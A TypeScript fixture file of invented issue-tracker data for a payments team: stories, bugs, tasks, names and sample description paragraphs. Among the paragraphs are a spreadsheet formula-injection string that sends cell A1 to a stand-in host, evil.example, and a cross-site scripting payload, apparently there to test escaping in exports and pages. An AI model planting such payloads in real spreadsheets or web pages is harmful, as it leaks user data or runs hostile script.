/** Material for issues that read like a payments team's. */
export const EPICS = [
  'Ledger export for finance teams',
  'Instant refunds',
  'New checkout',
  'Android wallet',
  'Merchant onboarding',
] as const;

export const STORIES = [
  'Export ledger as SAF-T',
  'Archive sandbox merchants',
  'Explain declined payments',
  'Rate limit the audit log',
  'Chargeback evidence upload',
  'Invoice PDF in Croatian',
  'Settlement report by currency',
  'Retry webhooks with jitter',
  'Idempotent capture endpoint',
  'Show fees before confirm',
  'Refund to original method',
  'Partial refunds in the API',
  'Webhook replay screen',
  'Refund reasons as a list',
  'Cap refunds at the captured sum',
  'Checkout on the new cart',
  'Wallet buttons first',
  'Remember the last payment method',
  'Show the merchant’s own terms',
  'Split a payment between two cards',
  'Sort transactions by settlement date',
  'Download a receipt without signing in',
  'Ask for a tax number where the law does',
  'Explain why a payout is late',
  'Filter disputes by deadline',
  'Invite a colleague with a role',
  'Preview a payment link',
  'Pay by bank transfer in euro',
  'Notify before a card expires',
  'Name a till and its location',
  'Show the exchange rate before paying',
  'Repeat a payout that was returned',
  'Tell support which step failed',
  'Hide test payments from reports',
  'Let a merchant pause payouts',
  'Group disputes by reason',
  'Accept a deposit and charge the rest later',
  'Print the day’s closing on one page',
  'Choose who may refund, and how much',
  'Warn before a link expires',
] as const;

export const BUGS = [
  'Block double submit on 3-D Secure',
  'Log refusals with a reason',
  'Refund button stays grey after a failed attempt',
  'Amounts over 9,999.99 lose their separator',
  'Time zone of the settlement report is wrong in winter',
  'Search finds nothing for names with an apostrophe',
  'Payment page jumps when the keyboard opens',
  'Webhooks arrive twice after a deploy',
  'Receipt shows the old logo',
  'CSV export drops the last line',
  'Cents are rounded twice in the fee line',
  'Expired sessions end on a blank page',
  'Dispute deadline is shown one day late',
  'Payment links open twice on old phones',
  'Merchant name is cut after an ampersand',
  'Declined cards count as attempts of the next one',
] as const;

export const TASKS = [
  'Rotate signing keys yearly',
  'Drop TLS 1.1',
  'Move the nightly job off the primary',
  'Upgrade the queue client',
  'Delete the unused fraud table',
  'Write the migration guide for API 5',
  'Alert on a growing outbox',
  'Load test the refund path',
  'Split the settlement service’s database user',
  'Document the on-call rota',
  'Remove the feature flag old_cart',
  'Measure the time to first payment',
  'Renew the acquirer’s certificate',
  'Rehearse restoring the ledger',
] as const;

export const PEOPLE = [
  'Mara Kovač',
  'Jonas Lindqvist',
  'Bo Andersen',
  'Tari Adeyemi',
  'Inês Nogueira',
  'Sofía Ortiz',
] as const;

export const LABELS = ['api', 'mobile', 'compliance', 'quick-win', 'needs-docs', 'breaking'];
export const COMPONENTS = ['Checkout', 'Ledger', 'Refunds', 'Webhooks', 'Back office'];
export const PRIORITIES = ['Highest', 'High', 'Medium', 'Medium', 'Medium', 'Low', 'Lowest'];

/** What real descriptions hold: wiki markup, quotes, commas, formulas, HTML, other scripts. */
export const PARAGRAPHS = [
  'h3. Why\r\nFinance teams close the month by hand, and it takes them *three days*.',
  'As a merchant, I want to see this before I confirm, so that nothing surprises me.',
  'Steps:\r\n# Open the payment\r\n# Press "Refund"\r\n# Enter an amount, e.g. 12,50 €',
  '{code:java}\nif (amount > captured) throw new IllegalArgumentException("over captured");\n{code}',
  '* works on the phone\n* works without a mouse\n* says what went wrong',
  'See [the decision|https://wiki.example.com/x?a=1&b=2] and the thread with support.',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '<script>alert(1)</script><img src=x onerror=alert(2)> typed by somebody in good faith',
  '||Field||Before||After||\n|amount|text|number|\n|currency|text|ISO 4217|',
  '日本語の加盟店も同じ画面を使います。Γειά σου. 🚀',
  'The customer wrote: "it says ""declined"" and nothing else".',
] as const;
